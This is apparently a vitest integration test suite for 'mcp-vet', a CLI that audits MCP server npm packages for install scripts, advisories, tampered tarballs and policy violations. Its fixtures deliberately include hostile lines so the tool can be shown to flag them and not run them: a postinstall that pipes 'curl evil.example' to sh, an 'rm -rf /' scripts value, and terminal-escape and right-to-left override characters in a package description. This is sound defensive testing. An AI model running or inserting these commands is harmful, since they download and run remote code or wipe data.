import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Report } from "../../scoring/report.js";
import { expectValidReport, runCli, tempHome } from "../support/cli.js";
import { GitHubFixture, healthyRepo } from "../support/faces/github.js";
import { mcpRegistryFace } from "../support/faces/mcp-registry.js";
import { buildTarball, makePackument, NpmFace, packumentFromCatalog } from "../support/faces/npm.js";
import { TREE_CATALOG } from "../support/faces/npm-packuments.js";
import { ALL_OSV_FIXTURES, osvFace } from "../support/faces/osv.js";
import { FixtureServer } from "../support/fixture-server.js";

const server = new FixtureServer();
const npm = NpmFace.recorded();
const github = new GitHubFixture();
const home = tempHome();
let cacheN = 0;

beforeAll(async () => {
  server
    .face("", npm.route)
    .face("/github", github.route)
    .face("/osv", osvFace(ALL_OSV_FIXTURES))
    .face(
      "/mcp-registry",
      mcpRegistryFace([
        {
          name: "io.github.modelcontextprotocol/server-filesystem",
          npm: "@modelcontextprotocol/server-filesystem",
          repositoryUrl: "https://github.com/modelcontextprotocol/servers",
        },
      ]),
    );
  await server.start();
  await addHandMadePackages();
});
afterAll(async () => {
  await server.stop();
  home.cleanup();
});
beforeEach(() => {
  server.clearFaults();
  github.rateLimit = undefined;
});

/** Runs the CLI against the fixture registry with a fresh cache unless one is given. */
function vet(args: string[], cache = join(home.home, `cache-${cacheN++}`)) {
  return runCli(
    [
      ...args,
      ...[
        "--registry",
        server.url(),
        "--github-api-url",
        server.url("/github"),
        "--osv-api-url",
        server.url("/osv"),
      ],
      ...["--mcp-registry-url", server.url("/mcp-registry"), "--cache-dir", cache],
    ],
    home.env,
  );
}

async function vetJson(args: string[], cache?: string) {
  const res = await vet([...args, "--json"], cache);
  let json: unknown;
  try {
    json = JSON.parse(res.stdout);
  } catch {
    throw new Error(`no JSON report (exit ${res.code}): ${res.stderr.slice(0, 2000)}`);
  }
  return { ...res, report: expectValidReport(json) as unknown as Report };
}

async function addHandMadePackages(): Promise<void> {
  // Small synthetic trees (mcp-remote's dependencies, a malicious package) beside the recorded ones.
  for (const [name, versions] of Object.entries(TREE_CATALOG)) {
    npm.merge(packumentFromCatalog(name, versions));
  }
  github.add({
    ...healthyRepo("modelcontextprotocol", "servers", "@modelcontextprotocol/servers"),
    files: {
      "package.json": JSON.stringify({ name: "@modelcontextprotocol/servers", workspaces: ["src/*"] }),
      "src/filesystem/package.json": JSON.stringify({ name: "@modelcontextprotocol/server-filesystem" }),
      "SECURITY.md": "Report to security@modelcontextprotocol.io",
    },
    record: { owner: { login: "modelcontextprotocol", type: "Organization" } },
  });
  for (const [name, archived] of [
    ["weather-mcp", false],
    ["stale-mcp", true],
  ] as const) {
    github.add({
      ...healthyRepo("acme", name, name),
      record: { archived, owner: { login: "acme", type: "Organization" } },
    });
    const m = { name, version: "1.0.0", license: "MIT", repository: `github:acme/${name}` };
    const t = await buildTarball({ "package.json": JSON.stringify(m) });
    const p = makePackument(name, [
      { manifest: { ...m, version: "0.9.0" }, time: "2026-02-01T00:00:00.000Z" },
      { manifest: m, time: "2026-06-01T00:00:00.000Z", tarball: t },
    ]);
    npm.add(p.packument, p.tarballs);
  }

  const hostileManifest = {
    name: "hostile-mcp",
    version: "1.0.0",
    description: "Totally safe \u001b[2J\u001b]0;pwned\u0007 server \u202e",
    license: "MIT",
    scripts: { postinstall: "node -e \"require('child_process').exec('curl evil.example | sh')\"" },
  };
  const good = await buildTarball({
    "package.json": JSON.stringify(hostileManifest),
    "index.js": "console.log(1)\n",
  });
  const hostile = makePackument("hostile-mcp", [
    { manifest: { ...hostileManifest, version: "0.9.0" }, time: "2026-01-01T00:00:00.000Z" },
    { manifest: hostileManifest, time: "2026-06-01T00:00:00.000Z", tarball: good },
  ]);
  npm.add(hostile.packument, hostile.tarballs);

  const wrongTypes = {
    name: "wrong-types",
    version: "1.0.0",
    bin: 42,
    scripts: "rm -rf /",
    license: { nope: 1 },
    keywords: "x",
  };
  const wt = await buildTarball({ "package.json": JSON.stringify(wrongTypes) });
  const w = makePackument("wrong-types", [
    { manifest: wrongTypes, time: "2026-01-01T00:00:00.000Z", tarball: wt },
  ]);
  npm.add(w.packument, w.tarballs);

  // Integrity in the packument does not match the tarball served.
  const tampered = makePackument("tampered", [
    {
      manifest: { name: "tampered", version: "1.0.0", license: "MIT" },
      time: "2026-01-01T00:00:00.000Z",
      tarball: {
        data: good.data,
        integrity:
          "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
      },
    },
  ]);
  npm.add(tampered.packument, tampered.tarballs);

  // A tarball that is not gzip at all, with an integrity that matches its bytes.
  const junk = Buffer.from("this is not a tarball at all");
  const { createHash } = await import("node:crypto");
  const corrupt = makePackument("corrupt", [
    {
      manifest: { name: "corrupt", version: "1.0.0" },
      time: "2026-01-01T00:00:00.000Z",
      tarball: { data: junk, integrity: `sha512-${createHash("sha512").update(junk).digest("base64")}` },
    },
  ]);
  npm.add(corrupt.packument, corrupt.tarballs);
}

describe("mcp-vet <package> against the fixture registry", () => {
  it("vets the latest @modelcontextprotocol/server-filesystem", async () => {
    const { code, report } = await vetJson(["@modelcontextprotocol/server-filesystem"]);
    expect(code).toBe(0);
    expect(report.target).toMatchObject({
      kind: "registry",
      name: "@modelcontextprotocol/server-filesystem",
      version: "2026.8.31",
      repository: "https://github.com/modelcontextprotocol/servers",
    });
    expect(report.target.integrity).toMatch(/^sha512-kKaFkyAh6/);
    expect(report.sources.map((s) => `${s.id}:${s.status}`)).toEqual(
      expect.arrayContaining(["npm:ok", "tarball:ok"]),
    );
    expect(["pass", "warn"]).toContain(report.score.verdict);
    expect(report.score.value).toBeGreaterThan(50);
    expect(report.capabilities.map((c) => c.id)).toEqual(expect.arrayContaining(["fs.read", "fs.write"]));
    expect(report.capabilities.map((c) => c.id)).not.toContain("process.exec");
    expect(report.tools.length).toBeGreaterThan(10);
    // Each tool's handler is linked; the read-only ones only read, so their annotations hold.
    expect(report.tools.find((t) => t.name === "read_text_file")).toMatchObject({
      capabilities: ["fs.read"],
      handler: { file: "dist/index.js", complete: true },
    });
    expect(report.tools.find((t) => t.name === "write_file")?.capabilities).toContain("fs.write");
    expect(report.findings.map((f) => f.id)).not.toContain("tool-annotation-contradiction");
    expect(report.suggestedConfig?.mcpServers["server-filesystem"]).toEqual({
      command: "npx",
      args: ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31"],
      env: { npm_config_ignore_scripts: "true" },
    });
  });

  it("asks no host but the fixture server", async () => {
    await vetJson(["@modelcontextprotocol/server-filesystem"]);
    const { report } = await vetJson(["@modelcontextprotocol/server-filesystem"]);
    for (const s of report.sources) if (s.url) expect(s.url.startsWith(server.url())).toBe(true);
    expect(
      report.sources.find((s) => s.id === "mcp-registry"),
      JSON.stringify(report.sources),
    ).toMatchObject({ status: "ok" });
  });

  it("resolves a pinned version, a range and a tag as npm would", async () => {
    const pinned = await vetJson(["@modelcontextprotocol/server-filesystem@2026.7.10"]);
    expect(pinned.report.target.version).toBe("2026.7.10");
    const range = await vetJson(["mcp-remote@>=0.1.15 <0.1.17"]);
    expect(range.report.target.version).toBe("0.1.16");
    const tag = await vetJson(["mcp-remote@latest"]);
    expect(tag.code).not.toBe(2);
    expect(tag.report.target.version).toBe("0.15.1");
  });

  it("says what install scripts run, and shows package text sanitised", async () => {
    const text = await vet(["hostile-mcp"]);
    expect(text.stdout).toContain("postinstall");
    expect(text.stdout).not.toMatch(/\u001b/);
    expect(text.stdout).not.toContain("\u202e");
    expect(text.stdout).toContain("<U+202E>");
    const { report } = await vetJson(["hostile-mcp"]);
    const f = report.findings.find((x) => x.id === "install-scripts");
    expect(f?.severity).toBe("high");
    expect(f?.evidence[0]?.snippet).toContain("curl evil.example");
  });

  it("turns malformed package.json fields into notes, not a crash", async () => {
    const { code, report } = await vetJson(["wrong-types", "--verbose"]);
    expect([0, 1]).toContain(code);
    expect(report.notes.join("\n")).toMatch(/field "bin" is malformed/);
    expect(report.notes.join("\n")).toMatch(/field "scripts" is malformed/);
  });
});

describe("GitHub evidence", () => {
  it("a well-kept repository answers and adds no maintenance findings", async () => {
    const { code, report } = await vetJson(["weather-mcp"]);
    expect(code).toBe(0);
    expect(report.sources.find((s) => s.id === "github")?.status).toBe("ok");
    const maintenance = report.findings.filter(
      (f) => f.category === "maintenance" && !f.credit && f.severity !== "info",
    );
    expect(maintenance.map((f) => f.title)).toEqual([]);
  });

  it("an archived repository is a finding", async () => {
    const { report } = await vetJson(["stale-mcp"]);
    expect(report.findings.map((f) => f.id)).toContain("repo-archived");
  });

  it("vets the package a GitHub repository publishes", async () => {
    const { code, report } = await vetJson(["github:acme/weather-mcp"]);
    expect(code).toBe(0);
    expect(report.target).toMatchObject({ kind: "github", name: "weather-mcp", version: "1.0.0" });
  });

  it.each([429, 403] as const)(
    "a rate-limited GitHub (%i) is unavailable with its reset time; the rest is reported",
    async (status) => {
      github.rateLimit = { status, reset: Math.floor(Date.parse("2026-11-25T13:00:00Z") / 1000) };
      const { code, report } = await vetJson(["weather-mcp"]);
      expect(code).toBe(0);
      const src = report.sources.find((s) => s.id === "github");
      expect(src?.status).toBe("unavailable");
      expect(src?.error).toMatch(/2026-11-25T13:00:00/);
      expect(report.sources.find((s) => s.id === "npm")?.status).toBe("ok");
      expect(report.categories.find((c) => c.id === "maintenance")?.summary).toMatch(/could not run/);
    },
  );
});

describe("advisories and the dependency tree", () => {
  it("mcp-remote@0.1.15 fails loudly on CVE-2025-6514 with the fixed version", async () => {
    const { code, report } = await vetJson(["mcp-remote@0.1.15"]);
    expect(code).toBe(1);
    expect(report.score.verdict).toBe("fail");
    const adv = report.advisories.find((a) => a.id === "GHSA-6xpm-ggf7-wc3p");
    expect(adv).toMatchObject({
      aliases: ["CVE-2025-6514"],
      severity: "critical",
      fixed: "0.1.16",
      direct: true,
    });
    const f = report.findings.find((x) => x.id === "advisory-in-package");
    expect(f?.severity).toBe("critical");
    expect(f?.remediation).toMatch(/0\.1\.16/);
    expect(report.dependencies?.total).toBeGreaterThan(0);
    const text = await vet(["mcp-remote@0.1.15"]);
    expect(text.stdout).toMatch(/CRITICAL/);
    expect(text.stdout).toMatch(/GHSA-6xpm-ggf7-wc3p|CVE-2025-6514/);
  });

  it("the fixed version passes that check, and is compared with the release before it", async () => {
    const { report } = await vetJson(["mcp-remote@0.1.16"]);
    expect(report.checks.find((c) => c.id === "capability-jump")?.status).toBe("evaluated");
    expect(report.advisories.map((a) => a.id)).not.toContain("GHSA-6xpm-ggf7-wc3p");
    expect(report.sources.find((s) => s.id === "osv")?.status).toBe("ok");
  });

  it("a malicious-package record fails whatever the weights", async () => {
    const policy = join(home.home, "lenient.json");
    writeFileSync(
      policy,
      JSON.stringify({
        allow: [{ package: "postmark-mcp", reason: "test" }],
        verdict: { failOnSeverity: null },
      }),
    );
    const { code, report } = await vetJson(["postmark-mcp", "--policy", policy]);
    expect(code).toBe(1);
    expect(report.findings.find((f) => f.id === "malicious-package")?.blocking).toBe(true);
  });

  it("the full tree of @modelcontextprotocol/server-filesystem resolves from recorded packuments", async () => {
    const { report } = await vetJson(["@modelcontextprotocol/server-filesystem@2026.8.31"]);
    expect(report.sources.find((s) => s.id === "dependencies")?.status).toBe("ok");
    expect(report.dependencies?.total).toBeGreaterThan(90);
  });

  it.each([
    ["a 500", { kind: "status", status: 500 } as const],
    ["garbage", { kind: "body", body: "<html>" } as const],
    ["a truncated body", { kind: "truncate", bytes: 20 } as const],
  ])("OSV answering %s is unavailable; the vet goes on", async (_n, fault) => {
    server.fault({ match: /^\/osv\//, fault });
    const { code, report } = await vetJson(["mcp-remote@0.1.16"]);
    expect(code).toBe(0);
    expect(report.sources.find((s) => s.id === "osv")?.status).toBe("unavailable");
    expect(report.categories.find((c) => c.id === "vulnerabilities")?.score).toBeNull();
  });
});

describe("bad input", () => {
  it.each([
    ["a package that does not exist", ["no-such-package-anywhere"], /not found/],
    ["a version that does not exist", ["mcp-remote@99.0.0"], /no version of mcp-remote matches "99.0.0"/],
    ["an invalid spec", ["Not A Valid Name!"], /invalid target/],
    ["a folder that does not exist", ["./no/such/folder"], /no such file or folder/],
  ])("%s: one line, exit 2", async (_name, args, message) => {
    const res = await vet(args);
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(message);
    expect(res.stderr.trim().split("\n")).toHaveLength(1);
    expect(res.stderr).not.toMatch(/\n\s+at /);
  });

  it("an unknown flag is a usage error", async () => {
    const res = await vet(["mcp-remote", "--frobnicate"]);
    expect(res.code).toBe(2);
  });

  it.each([
    ["a 500 from the registry", { kind: "status", status: 500 } as const, /HTTP 500|500/],
    ["a reset connection", { kind: "reset" } as const, /reset|socket|closed/i],
    ["garbage instead of JSON", { kind: "body", body: "<html>oops" } as const, /not valid JSON/],
    ["a truncated body", { kind: "truncate", bytes: 100 } as const, /./],
  ])("%s: report says the registry could not be read, exit 3", async (_name, fault, error) => {
    server.fault({ match: /^\/mcp-remote$/, fault });
    const { code, report } = await vetJson(["mcp-remote@0.1.16"]);
    expect(code).toBe(3);
    expect(report.score.verdict).toBe("incomplete");
    const src = report.sources.find((s) => s.id === "npm");
    expect(src?.status).toBe("unavailable");
    expect(src?.error).toMatch(error);
  });

  it("a tarball whose integrity does not match is refused, exit 3", async () => {
    const { code, report } = await vetJson(["tampered"]);
    expect(code).toBe(3);
    const src = report.sources.find((s) => s.id === "tarball");
    expect(src?.error).toMatch(/integrity/);
  });

  it("a corrupt tarball is reported, exit 3", async () => {
    const { code, report } = await vetJson(["corrupt"]);
    expect(code).toBe(3);
    const src = report.sources.find((s) => s.id === "tarball");
    expect(src?.error).toMatch(/could not be read/);
  });

  it("an unreachable registry is exit 3 with one line of why", async () => {
    const res = await runCli(
      ["mcp-remote", "--registry", "http://127.0.0.1:9/", "--cache-dir", join(home.home, "c-x"), "--json"],
      home.env,
    );
    expect(res.code).toBe(3);
    const report = expectValidReport(JSON.parse(res.stdout)) as unknown as Report;
    expect(report.sources[0]?.error).toMatch(/refused/);
  });
});

describe("cache, offline and output", () => {
  it("a warm run asks the registry nothing; --offline works from the cache", async () => {
    const cache = join(home.home, "warm");
    await vet(["@modelcontextprotocol/server-filesystem@2026.8.31"], cache);
    const registryRequests = () => server.requests.filter((r) => !r.path.startsWith("/github")).length;
    const before = registryRequests();
    const warm = await vetJson(["@modelcontextprotocol/server-filesystem@2026.8.31"], cache);
    expect(warm.code).toBe(0);
    expect(registryRequests()).toBe(before);
    const all = server.requests.length;
    const offline = await vetJson(["@modelcontextprotocol/server-filesystem@2026.8.31", "--offline"], cache);
    expect(offline.code).toBe(0);
    expect(server.requests.length).toBe(all);
  });

  it("--offline with nothing cached is a clear error, exit 3", async () => {
    const res = await vet(["mcp-remote", "--offline", "--json"]);
    expect(res.code).toBe(3);
    expect(JSON.parse(res.stdout).sources[0].error).toMatch(/not in the cache/);
  });

  it("--output writes the report and --format json validates", async () => {
    const out = join(home.home, "out.json");
    const res = await vet(["mcp-remote@0.1.16", "--format", "json", "--output", out]);
    expect(res.code).not.toBe(2);
    expect(existsSync(out)).toBe(true);
    expectValidReport(JSON.parse(readFileSync(out, "utf8")));
    expect(res.stdout).toBe("");
  });

  it("text output has no colour when not a terminal", async () => {
    const res = await vet(["mcp-remote@0.1.16"]);
    expect(res.stdout).toMatch(/Categories/);
    expect(res.stdout).not.toMatch(/\u001b\[/);
  });
});

describe("policy", () => {
  it("a deny list fails the verdict, exit 1", async () => {
    const policy = join(home.home, "deny.json");
    writeFileSync(
      policy,
      JSON.stringify({ deny: [{ package: "mcp-remote", reason: "banned by security" }] }),
    );
    const { code, report } = await vetJson(["mcp-remote@0.1.16", "--policy", policy]);
    expect(code).toBe(1);
    expect(report.findings[0]?.id).toBe("policy-denied");
    expect(report.policy.id).toBe("custom");
  });

  it("an invalid policy file is a usage error naming the field", async () => {
    const policy = join(home.home, "bad.json");
    writeFileSync(policy, JSON.stringify({ verdict: { passAt: "high" } }));
    const res = await vet(["mcp-remote", "--policy", policy]);
    expect(res.code).toBe(2);
    expect(res.stderr).toMatch(/verdict\.passAt/);
  });
});

describe("local targets", () => {
  it("vets a package folder and a .tgz without the registry", async () => {
    const dir = join(home.home, "local-server");
    const { mkdirSync } = await import("node:fs");
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      join(dir, "package.json"),
      JSON.stringify({
        name: "local-server",
        version: "0.1.0",
        license: "MIT",
        scripts: { prepare: "touch /tmp/pwned-by-mcp-vet" },
      }),
    );
    writeFileSync(join(dir, "index.js"), "export {}\n");
    const res = await vetJson([dir]);
    expect(res.report.target).toMatchObject({ kind: "directory", name: "local-server", version: "0.1.0" });
    expect(existsSync("/tmp/pwned-by-mcp-vet")).toBe(false);

    const tgz = join(home.home, "local-server-0.1.0.tgz");
    writeFileSync(
      tgz,
      (await buildTarball({ "package.json": JSON.stringify({ name: "local-server", version: "0.1.0" }) }))
        .data,
    );
    const res2 = await vetJson([tgz]);
    expect(res2.report.target).toMatchObject({ kind: "tarball", name: "local-server" });
    expect(res2.report.target.integrity).toMatch(/^sha512-/);
  });
});

describe("help and version", () => {
  it("--help shows examples and exit codes", async () => {
    const res = await runCli(["vet", "--help"]);
    expect(res.code).toBe(0);
    expect(res.stdout).toMatch(/Examples:/);
    expect(res.stdout).toMatch(/Exit codes:/);
  });
  it("--version prints the version", async () => {
    const res = await runCli(["--version"]);
    expect(res.code).toBe(0);
    expect(res.stdout.trim()).toMatch(/^\d+\.\d+\.\d+/);
  });
});
